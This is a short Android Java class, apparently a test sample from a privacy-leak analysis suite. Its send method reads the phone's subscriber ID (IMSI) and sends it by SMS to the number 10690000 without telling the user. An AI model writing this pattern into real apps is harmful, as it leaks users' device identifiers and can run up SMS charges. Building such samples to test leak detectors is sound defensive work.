package cn.privlens.suite.sender_by_joined_name;

import android.content.Context;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class DeviceSender implements Sender {
    @Override
    public void send(Context context) { SmsManager.getDefault().sendTextMessage("10690000", null, ((TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE)).getSubscriberId(), null, null); }
}
